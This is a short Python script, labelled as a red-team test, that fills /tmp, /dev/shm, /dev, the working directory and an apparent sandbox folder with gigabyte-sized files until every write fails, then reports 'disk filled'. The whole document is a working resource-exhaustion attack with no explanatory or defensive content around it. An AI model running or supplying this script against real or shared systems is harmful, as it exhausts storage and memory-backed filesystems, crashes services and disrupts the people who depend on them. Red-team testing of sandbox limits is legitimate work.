# Red team: fill every writable place with files of the largest size allowed, until the disk is full.
import os

chunk = b"\0" * (1 << 20)
for place in ["/tmp", "/tmp/home", "/dev/shm", ".", "/sandbox/work", "/dev"]:
    for number in range(100000):
        try:
            with open(os.path.join(place, f"fill-{number}"), "wb") as stream:
                for _ in range(1024):
                    stream.write(chunk)
        except OSError:
            break
print("disk filled")
